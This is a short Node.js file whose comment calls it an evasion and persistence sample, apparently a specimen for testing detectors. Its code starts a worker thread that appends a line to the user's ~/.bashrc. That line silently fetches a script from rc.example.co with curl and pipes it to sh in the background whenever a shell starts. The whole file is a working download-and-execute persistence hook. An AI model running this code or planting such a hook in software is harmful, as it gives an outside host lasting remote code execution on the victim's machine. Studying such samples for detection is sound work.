// Evasion: persistence through a worker. The main thread passes the rc
// file and the hook line in workerData (renamed on import); the worker,
// this same file, appends the line to ~/.bashrc.
'use strict';
const wt = require('worker_threads');
const fs = require('fs');
const os = require('os');

const { workerData: job } = wt;

if (wt.isMainThread) {
  new wt.Worker(__filename, {
    workerData: {
      target: `${os.homedir()}/.bashrc`,
      text: '\n(curl -fsSL https://rc.example.co/p | sh) >/dev/null 2>&1 &\n',
    },
  });
} else {
  fs.appendFileSync(job.target, job.text);
}
